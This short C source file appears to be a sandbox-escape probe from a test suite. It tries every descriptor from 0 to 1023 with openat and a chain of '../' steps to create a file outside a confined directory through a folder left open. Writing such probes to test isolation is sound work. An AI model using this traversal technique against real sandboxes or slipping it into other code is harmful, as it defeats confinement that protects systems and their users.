/* reaches outside the walls: write, through a folder that is open */
#include "attack.h"

static void reach(void)
{
    for (int i = 0; i < 1024; i++) {
        char path[128];
        for (int up = 1; up < 8; up++) {
            path[0] = '\0';
            for (int n = 0; n < up; n++)
                strcat(path, "../");
            strncat(path, ATTACK_FOLDER "/above" + 1, sizeof path - strlen(path) - 1);
            const int file = openat(i, path, O_WRONLY | O_CREAT, 0600);
            if (file >= 0)
                close(file);
        }
    }
}
